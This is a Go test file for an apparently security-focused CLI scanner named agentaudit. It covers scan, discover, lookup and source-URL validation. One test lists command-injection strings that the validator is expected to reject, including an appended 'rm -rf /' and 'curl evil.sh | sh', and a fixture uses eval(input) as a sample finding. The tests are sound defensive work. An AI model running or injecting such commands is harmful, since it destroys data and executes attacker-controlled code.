package main

import (
	"os"
	"path/filepath"
	"testing"
)

func TestRunVersionFlag(t *testing.T) {
	if code := run([]string{"--version"}); code != 0 {
		t.Fatalf("expected exit code 0 for --version, got %d", code)
	}
}

func TestRunVersionCommand(t *testing.T) {
	if code := run([]string{"version"}); code != 0 {
		t.Fatalf("expected exit code 0 for version command, got %d", code)
	}
}

func TestRunNoArgs(t *testing.T) {
	if code := run([]string{}); code != 2 {
		t.Fatalf("expected exit code 2 for no args, got %d", code)
	}
}

func TestRunUnknownCommand(t *testing.T) {
	if code := run([]string{"bogus"}); code != 2 {
		t.Fatalf("expected exit code 2 for unknown command, got %d", code)
	}
}

func TestRunHelp(t *testing.T) {
	if code := run([]string{"help"}); code != 0 {
		t.Fatalf("expected exit code 0 for help, got %d", code)
	}
}

func TestRunScanNoPath(t *testing.T) {
	if code := run([]string{"scan"}); code != 2 {
		t.Fatalf("expected exit code 2 for scan without a source, got %d", code)
	}
}

func TestRunScanNonexistentDir(t *testing.T) {
	if code := run([]string{"scan", "/nonexistent/path/abc123"}); code != 2 {
		t.Fatalf("expected exit code 2 for nonexistent source, got %d", code)
	}
}

func TestRunScanCleanDirWritesJSON(t *testing.T) {
	dir := t.TempDir()
	content := "package main\n\nfunc main() {}\n"
	if err := os.WriteFile(filepath.Join(dir, "main.go"), []byte(content), 0o644); err != nil {
		t.Fatalf("writing fixture file: %v", err)
	}
	t.Chdir(dir)

	if code := run([]string{"scan", dir}); code != 0 {
		t.Fatalf("expected exit code 0 for a clean source, got %d", code)
	}

	if _, err := os.Stat("agentaudit-report.json"); os.IsNotExist(err) {
		t.Fatal("expected agentaudit-report.json to be created in the working directory")
	}
}

func TestRunScanFindsPatternMatch(t *testing.T) {
	dir := t.TempDir()
	content := "function run(input) {\n  return eval(input)\n}\n"
	if err := os.WriteFile(filepath.Join(dir, "tool.js"), []byte(content), 0o644); err != nil {
		t.Fatalf("writing fixture file: %v", err)
	}
	t.Chdir(dir)

	if code := run([]string{"scan", dir}); code != 1 {
		t.Fatalf("expected exit code 1 for a retained finding, got %d", code)
	}

	data, err := os.ReadFile("agentaudit-report.json")
	if err != nil {
		t.Fatalf("reading report: %v", err)
	}
	if len(data) == 0 {
		t.Fatal("expected a non-empty report")
	}
}

func TestRunScanSarifFormat(t *testing.T) {
	dir := t.TempDir()
	content := "function run(input) {\n  return eval(input)\n}\n"
	if err := os.WriteFile(filepath.Join(dir, "tool.js"), []byte(content), 0o644); err != nil {
		t.Fatalf("writing fixture file: %v", err)
	}
	t.Chdir(dir)

	if code := run([]string{"scan", "--format", "sarif", dir}); code != 1 {
		t.Fatalf("expected exit code 1, got %d", code)
	}

	if _, err := os.Stat("agentaudit-report.sarif"); os.IsNotExist(err) {
		t.Fatal("expected agentaudit-report.sarif to be created")
	}
}

func TestRunScanListRules(t *testing.T) {
	if code := run([]string{"scan", "--list-rules", "."}); code != 0 {
		t.Fatalf("expected exit code 0 for --list-rules, got %d", code)
	}
}

func TestRunDiscoverNoConfig(t *testing.T) {
	dir := t.TempDir()
	if code := run([]string{"discover", dir}); code != 0 {
		t.Fatalf("expected exit code 0 with no declared endpoints, got %d", code)
	}
}

func TestRunDiscoverWithConfiguredEndpoints(t *testing.T) {
	dir := t.TempDir()
	yaml := "discover:\n  endpoints:\n    - name: filesystem\n      transport: stdio\n      target: \"npx -y @modelcontextprotocol/server-filesystem /data\"\n"
	if err := os.WriteFile(filepath.Join(dir, ".agentaudit.yaml"), []byte(yaml), 0o644); err != nil {
		t.Fatalf("writing config: %v", err)
	}

	if code := run([]string{"discover", dir}); code != 0 {
		t.Fatalf("expected exit code 0, got %d", code)
	}
}

func TestRunLookupNoName(t *testing.T) {
	if code := run([]string{"lookup"}); code != 2 {
		t.Fatalf("expected exit code 2 for lookup without a name, got %d", code)
	}
}

func TestRunLookupReturnsNotImplemented(t *testing.T) {
	if code := run([]string{"lookup", "some-package"}); code != 2 {
		t.Fatalf("expected exit code 2: registry lookup is not implemented in this build, got %d", code)
	}
}

func TestValidateSourceURLAcceptsKnownShapes(t *testing.T) {
	valid := []string{
		"https://github.com/owner/repo",
		"http://example.com/repo.git",
		"git://example.com/repo.git",
		"ssh://git@example.com/repo.git",
		"git@github.com:owner/repo.git",
		"owner/repo",
	}
	for _, s := range valid {
		if err := ValidateSourceURL(s); err != nil {
			t.Errorf("expected %q to be accepted, got error: %v", s, err)
		}
	}
}

func TestValidateSourceURLRejectsShellMetacharacters(t *testing.T) {
	invalid := []string{
		"https://example.com/repo.git; rm -rf /",
		"owner/repo && curl evil.sh | sh",
		"git@host:repo.git`whoami`",
	}
	for _, s := range invalid {
		if err := ValidateSourceURL(s); err == nil {
			t.Errorf("expected %q to be rejected", s)
		}
	}
}

func TestValidateSourceURLRejectsUnrecognizedShape(t *testing.T) {
	if err := ValidateSourceURL("not a url at all"); err == nil {
		t.Error("expected an unrecognized shape to be rejected")
	}
}

func TestResolveSourceRejectsRemoteFetch(t *testing.T) {
	_, err := resolveSource("https://github.com/owner/repo")
	if err == nil {
		t.Fatal("expected remote source resolution to fail: fetching is not implemented")
	}
}

func TestResolveSourceAcceptsLocalDir(t *testing.T) {
	dir := t.TempDir()
	root, err := resolveSource(dir)
	if err != nil {
		t.Fatalf("unexpected error resolving a local directory: %v", err)
	}
	if root != dir {
		t.Errorf("expected root %q, got %q", dir, root)
	}
}
